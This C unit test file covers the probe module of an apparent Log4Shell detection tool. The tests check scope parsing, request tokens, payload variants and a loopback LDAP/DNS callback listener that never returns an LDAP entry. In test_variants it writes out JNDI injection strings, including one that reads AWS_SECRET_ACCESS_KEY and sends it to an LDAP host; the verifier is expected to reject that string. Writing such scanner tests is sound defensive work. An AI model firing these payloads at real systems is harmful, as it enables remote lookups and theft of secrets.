/*
 * test_probe.c -- `defuse probe`'s building blocks (probe/): the scope
 * (CIDRs, addresses, host names, *.domain), tokens (unique per request,
 * found case-insensitively inside a DN or a DNS name, not across runs),
 * every payload variant checked against libdefuse (and a payload that
 * reads the target's values or names another URL rejected), and the
 * callback listener on loopback: an LDAP search and a DNS question that
 * carry a token are recorded, the LDAP answer is SearchResultDone
 * noSuchObject (never an entry), a foreign name is only counted.
 */
#include "probe.h"
#include "proto.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

static struct sockaddr_storage sa_of(const char *ip) {
    struct sockaddr_storage ss;
    memset(&ss, 0, sizeof ss);
    if (strchr(ip, ':')) {
        struct sockaddr_in6 *s6 = (struct sockaddr_in6 *)&ss;
        s6->sin6_family = AF_INET6;
        inet_pton(AF_INET6, ip, &s6->sin6_addr);
    } else {
        struct sockaddr_in *s4 = (struct sockaddr_in *)&ss;
        s4->sin_family = AF_INET;
        inet_pton(AF_INET, ip, &s4->sin_addr);
    }
    return ss;
}

static int in_scope(const probe_scope *sc, const char *ip) {
    struct sockaddr_storage ss = sa_of(ip);
    return probe_scope_addr(sc, (struct sockaddr *)&ss);
}

static void test_scope(void **state) {
    (void)state;
    static probe_scope sc;
    char err[256];
    memset(&sc, 0, sizeof sc);
    assert_int_equal(probe_scope_add(&sc, "10.1.0.0/16, 192.0.2.7,2001:db8::/32", err, sizeof err),
                     0);
    assert_int_equal(probe_scope_add(&sc, "app.corp.example,*.lab.example", err, sizeof err), 0);
    assert_true(in_scope(&sc, "10.1.255.3"));
    assert_false(in_scope(&sc, "10.2.0.1"));
    assert_true(in_scope(&sc, "192.0.2.7"));
    assert_false(in_scope(&sc, "192.0.2.8"));
    assert_true(in_scope(&sc, "2001:db8:1::5"));
    assert_false(in_scope(&sc, "2001:db9::1"));
    assert_true(in_scope(&sc, "::ffff:10.1.2.3")); /* v4-mapped compared as v4 */
    assert_false(in_scope(&sc, "::ffff:10.9.2.3"));
    assert_true(probe_scope_name(&sc, "APP.corp.example"));
    assert_true(probe_scope_name(&sc, "app.corp.example."));
    assert_false(probe_scope_name(&sc, "x.app.corp.example"));
    assert_false(probe_scope_name(&sc, "evilapp.corp.example"));
    assert_true(probe_scope_name(&sc, "a.b.lab.example"));
    assert_false(probe_scope_name(&sc, "lab.example")); /* *.x: subdomains only */
    assert_false(probe_scope_name(&sc, "xlab.example"));
    assert_false(probe_scope_name(&sc, "10.1.0.1")); /* addresses go by CIDR */
    static const char *const bad[] = {"10.0.0.0/33", "10.0.0.0/", "a@b",     "host/8",
                                      "*.",          "x;y",       "::1/129", "10.0.0.1/8x"};
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        probe_scope s2;
        memset(&s2, 0, sizeof s2);
        assert_int_equal(probe_scope_add(&s2, bad[i], err, sizeof err), -1);
        assert_non_null(strstr(err, "--scope"));
    }
    /* the table is bounded */
    memset(&sc, 0, sizeof sc);
    int rc = 0;
    for (int i = 0; i < PROBE_MAX_SCOPE + 1 && rc == 0; i++)
        rc = probe_scope_add(&sc, "10.0.0.1", err, sizeof err);
    assert_int_equal(rc, -1);
    assert_int_equal(sc.n, PROBE_MAX_SCOPE);
}

static void test_tokens(void **state) {
    (void)state;
    char a[PROBE_TOKEN_LEN + 1], b[PROBE_TOKEN_LEN + 1];
    probe_token(0xdeadbeef, 0, a);
    probe_token(0xdeadbeef, 1, b);
    assert_int_equal(strlen(a), PROBE_TOKEN_LEN);
    assert_string_not_equal(a, b);
    uint32_t seq = 99;
    char dn[64];
    snprintf(dn, sizeof dn, "cn=%s,dc=x", b);
    assert_int_equal(probe_token_find(0xdeadbeef, dn, strlen(dn), &seq), 1);
    assert_int_equal(seq, 1);
    probe_token(0xdeadbeef, 0xabcdef, a);
    for (char *p = a; *p; p++) /* a DNS path may change case */
        *p = (char)(*p >= 'a' && *p <= 'z' ? *p - 32 : *p);
    assert_int_equal(probe_token_find(0xdeadbeef, a, strlen(a), &seq), 1);
    assert_int_equal(seq, 0xabcdef);
    assert_int_equal(probe_token_find(0xdeadbeee, a, strlen(a), &seq), 0); /* another run */
    assert_int_equal(probe_token_find(0xdeadbeef, a, PROBE_TOKEN_LEN - 1, &seq), 0);
}

static void test_variants(void **state) {
    (void)state;
    defuse_scanner *sc;
    assert_int_equal(defuse_scanner_new(&sc, NULL), 0);
    size_t n;
    const probe_variant *v = probe_variants(&n);
    assert_true(n >= 7);
    char tok[PROBE_TOKEN_LEN + 1], pl[PROBE_MAX_PAYLOAD], err[256];
    probe_token(0x01020304, 7, tok);
    for (size_t i = 0; i < n; i++) {
        size_t l = probe_payload(&v[i], "10.0.0.5:1389", tok, pl, sizeof pl);
        assert_true(l > 0);
        assert_null(strstr(pl, "env:"));
        assert_null(strstr(pl, "sys:"));
        if (probe_payload_verify(sc, pl, l, v[i].scheme, "10.0.0.5:1389", tok, err, sizeof err))
            fail_msg("variant %s (%s): %s", v[i].name, pl, err);
        assert_ptr_equal(probe_variant_find(v[i].name), &v[i]);
    }
    /* what the check refuses */
    const char *reads = "${jndi:ldap://10.0.0.5:1389/${env:AWS_SECRET_ACCESS_KEY}}";
    assert_int_equal(probe_payload_verify(sc, reads, strlen(reads), "ldap", "10.0.0.5:1389", tok,
                                          err, sizeof err),
                     -1);
    snprintf(pl, sizeof pl, "${jndi:ldap://10.0.0.6:1389/%s}", tok);
    assert_int_equal(
        probe_payload_verify(sc, pl, strlen(pl), "ldap", "10.0.0.5:1389", tok, err, sizeof err),
        -1);
    snprintf(pl, sizeof pl, "$${jndi:ldap://10.0.0.5:1389/%s}", tok); /* escaped: inert */
    assert_int_equal(
        probe_payload_verify(sc, pl, strlen(pl), "ldap", "10.0.0.5:1389", tok, err, sizeof err),
        -1);
    /* too small a buffer */
    assert_int_equal(probe_payload(&v[0], "10.0.0.5:1389", tok, pl, 10), 0);
    assert_null(probe_variant_find("nope"));
    defuse_scanner_free(sc);
}

static unsigned free_port(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t al = sizeof a;
    bind(s, (struct sockaddr *)&a, sizeof a);
    getsockname(s, (struct sockaddr *)&a, &al);
    close(s);
    return ntohs(a.sin_port);
}

static size_t wait_hits(probe_listener *l, probe_hit *h, size_t want, unsigned long *foreign) {
    size_t n = 0;
    for (int i = 0; i < 200 && n < want; i++) {
        n = probe_listen_hits(l, h, 8, foreign);
        if (n < want)
            usleep(10000);
    }
    return n;
}

static void test_listener(void **state) {
    (void)state;
    unsigned port = free_port();
    probe_listener *l;
    char err[256];
    if (probe_listen_start(&l, "127.0.0.1", port, 0x0a0b0c0d, err, sizeof err) != 0)
        fail_msg("%s", err);
    char tok[PROBE_TOKEN_LEN + 1];
    probe_token(0x0a0b0c0d, 42, tok);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons((uint16_t)port);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);

    /* LDAP: SearchRequest(msgid 2, base = the token, filter present objectClass) */
    unsigned char m[128];
    size_t dl = strlen(tok), o = 0;
    static const unsigned char tail[] = {0x0a, 1,   0,    0x0a, 1,   0,    0x02, 1,   0,    0x02,
                                         1,    0,   0x01, 1,    0,   0x87, 11,   'o', 'b',  'j',
                                         'e',  'c', 't',  'C',  'l', 'a',  's',  's', 0x30, 0};
    size_t body = 2 + dl + sizeof tail;
    m[o++] = 0x30;
    m[o++] = (unsigned char)(3 + 2 + body);
    m[o++] = 0x02, m[o++] = 1, m[o++] = 2;
    m[o++] = 0x63, m[o++] = (unsigned char)body;
    m[o++] = 0x04, m[o++] = (unsigned char)dl;
    memcpy(m + o, tok, dl), o += dl;
    memcpy(m + o, tail, sizeof tail), o += sizeof tail;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    assert_int_equal(connect(s, (struct sockaddr *)&a, sizeof a), 0);
    assert_int_equal(write(s, m, o), (ssize_t)o);
    unsigned char r[256];
    struct pollfd pf = {s, POLLIN, 0};
    assert_int_equal(poll(&pf, 1, 3000), 1);
    ssize_t rn = read(s, r, sizeof r);
    assert_true(rn > 0);
    proto_ldap_msg rm;
    assert_int_equal(proto_ldap_decode(r, (size_t)rn, &rm), 0);
    assert_int_equal(rm.msgid, 2);
    assert_int_equal(rm.op, 5); /* SearchResultDone, not SearchResultEntry (4) */
    proto_ldap_msg_clear(&rm);
    close(s);

    /* DNS: a question for TOKEN.example over UDP */
    unsigned char q[128] = {0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
    o = 12;
    q[o++] = (unsigned char)dl;
    memcpy(q + o, tok, dl), o += dl;
    q[o++] = 7;
    memcpy(q + o, "example", 7), o += 7;
    q[o++] = 0;
    q[o++] = 0, q[o++] = 1, q[o++] = 0, q[o++] = 1;
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    assert_int_equal(sendto(u, q, o, 0, (struct sockaddr *)&a, sizeof a), (ssize_t)o);
    struct pollfd pu = {u, POLLIN, 0};
    assert_int_equal(poll(&pu, 1, 3000), 1);
    rn = recv(u, r, sizeof r, 0);
    assert_true(rn >= 12);
    assert_int_equal(r[0], 0x12);
    assert_int_equal(r[6] << 8 | r[7], 0); /* no answer record */
    close(u);

    /* an LDAP search without a token of the run is only counted */
    s = socket(AF_INET, SOCK_STREAM, 0);
    assert_int_equal(connect(s, (struct sockaddr *)&a, sizeof a), 0);
    memcpy(m + 9, "xxxxxxxxxxxxxxxx", dl);
    assert_int_equal(write(s, m, 7 + body), (ssize_t)(7 + body)); /* same frame, foreign DN */
    pf.fd = s;
    assert_int_equal(poll(&pf, 1, 3000), 1);
    close(s);

    probe_hit h[8];
    unsigned long foreign = 0;
    size_t n = wait_hits(l, h, 2, &foreign);
    for (int i = 0; i < 100 && foreign < 1; i++) {
        usleep(10000);
        n = probe_listen_hits(l, h, 8, &foreign);
    }
    assert_int_equal(n, 2);
    assert_int_equal(h[0].seq, 42);
    assert_int_equal(h[0].proto, PROBE_CB_LDAP);
    assert_int_equal(h[1].seq, 42);
    assert_int_equal(h[1].proto, PROBE_CB_DNS);
    assert_string_equal(h[0].src, "127.0.0.1");
    assert_int_equal(foreign, 1);
    probe_listen_stop(l);
}

/* The one table of LDAP answers (proto/, shared with the honeypot): no
 * request gets an entry (4) or a reference (19); bind and search get the
 * answers a JNDI client turns into a NamingException. */
/* probe_session without I/O: an LDAP bind, a search whose base DN is a
 * token, an unbind, delivered 5 bytes at a time: two safe replies (bind
 * response, search done), the DN reported once, closed at the unbind. */
typedef struct sess_log {
    int writes, names, ops[4];
    char name[64];
} sess_log;
static void sl_write(void *user, const void *p, size_t n) {
    sess_log *l = user;
    proto_ldap_msg m;
    assert_int_equal(proto_ldap_decode(p, n, &m), 0);
    if (l->writes < 4)
        l->ops[l->writes] = m.op;
    l->writes++;
    proto_ldap_msg_clear(&m);
}
static void sl_name(void *user, probe_cb_proto proto, const char *name, size_t len) {
    sess_log *l = user;
    assert_int_equal(proto, PROBE_CB_LDAP);
    snprintf(l->name, sizeof l->name, "%.*s", (int)len, name);
    l->names++;
}
static void test_session(void **state) {
    (void)state;
    static const unsigned char in[] = {
    0x30, 0x0c, 0x02, 0x01, 0x01, 0x60, 0x07, 0x02, 0x01, 0x03, 0x04, 0x00, 0x80, 0x00, 0x30,
    0x35, 0x02, 0x01, 0x02, 0x63, 0x30, 0x04, 0x10, 0x64, 0x70, 0x30, 0x31, 0x32, 0x33, 0x41,
    0x42, 0x43, 0x44, 0x30, 0x30, 0x30, 0x30, 0x32, 0x61, 0x0a, 0x01, 0x00, 0x0a, 0x01, 0x00,
    0x02, 0x01, 0x00, 0x02, 0x01, 0x00, 0x01, 0x01, 0x00, 0x87, 0x0b, 0x6f, 0x62, 0x6a, 0x65,
    0x63, 0x74, 0x43, 0x6c, 0x61, 0x73, 0x73, 0x30, 0x00, 0x30, 0x05, 0x02, 0x01, 0x03, 0x42,
    0x00};
    static unsigned char buf[PROBE_MAX_MESSAGE];
    probe_session s = {.buf = buf};
    probe_session_ops ops = {sl_write, sl_name};
    sess_log l = {0};
    int closed = 0;
    for (size_t off = 0; off < sizeof in && !closed; off += 5) {
        size_t n = sizeof in - off < 5 ? sizeof in - off : 5;
        memcpy(s.buf + s.len, in + off, n);
        s.len += n;
        closed = probe_session_run(&s, &ops, &l);
    }
    assert_true(closed);
    assert_int_equal(l.writes, 2);
    assert_int_equal(l.ops[0], 1); /* BindResponse */
    assert_int_equal(l.ops[1], 5); /* SearchResultDone: never an entry */
    assert_int_equal(l.names, 1);
    assert_string_equal(l.name, "dp0123ABCD00002a");
    uint32_t seq = 0;
    assert_true(probe_token_find(0x0123abcdu, l.name, strlen(l.name), &seq));
    assert_int_equal(seq, 0x2a);
    /* neither protocol: closed at once, nothing written */
    memset(&l, 0, sizeof l);
    s.len = 0;
    memcpy(s.buf, "GET / HTTP/1.0\r\n\r\n", 18);
    s.len = 18;
    assert_int_equal(probe_session_run(&s, &ops, &l), 1);
    assert_int_equal(l.writes + l.names, 0);
}

static void test_ldap_safe_replies(void **state) {
    (void)state;
    int rop, code;
    for (int op = -1; op < 64; op++) {
        int act = proto_ldap_safe_reply(op, &rop, &code);
        assert_true(act >= -1 && act <= 1);
        if (act == 1) {
            assert_int_not_equal(rop, 4);
            assert_int_not_equal(rop, 19);
        }
    }
    assert_int_equal(proto_ldap_safe_reply(PROTO_LDAP_BIND, &rop, &code), 1);
    assert_int_equal(rop, 1);
    assert_int_equal(code, 0);
    assert_int_equal(proto_ldap_safe_reply(PROTO_LDAP_SEARCH, &rop, &code), 1);
    assert_int_equal(rop, 5);
    assert_int_equal(code, 32);
    assert_int_equal(proto_ldap_safe_reply(PROTO_LDAP_UNBIND, &rop, &code), -1);
    assert_int_equal(proto_ldap_safe_reply(PROTO_LDAP_ABANDON, &rop, &code), 0);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_scope),
        cmocka_unit_test(test_tokens),
        cmocka_unit_test(test_variants),
        cmocka_unit_test(test_listener),
        cmocka_unit_test(test_ldap_safe_replies),
        cmocka_unit_test(test_session),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
